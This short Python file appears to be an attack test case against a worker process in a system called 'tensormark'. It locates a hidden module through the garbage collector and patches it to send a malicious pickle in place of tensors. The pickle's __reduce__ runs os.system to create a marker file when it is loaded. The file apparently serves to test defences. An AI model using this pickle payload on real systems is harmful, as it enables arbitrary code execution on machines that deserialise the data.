# tries: have the worker send a pickle in place of tensors
# loses: everything
import gc
import os
import pickle


def of_the_worker(name):
    """Find a module that can no longer be imported among all objects."""
    gc.unfreeze()
    modules = [m for m in gc.get_objects() if type(m) is type(gc)]
    return next(m for m in modules if m.__name__ == f"tensormark.worker.{name}")


protocol = of_the_worker("protocol")


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_mark",)


protocol.save = lambda tensors: pickle.dumps(Payload())
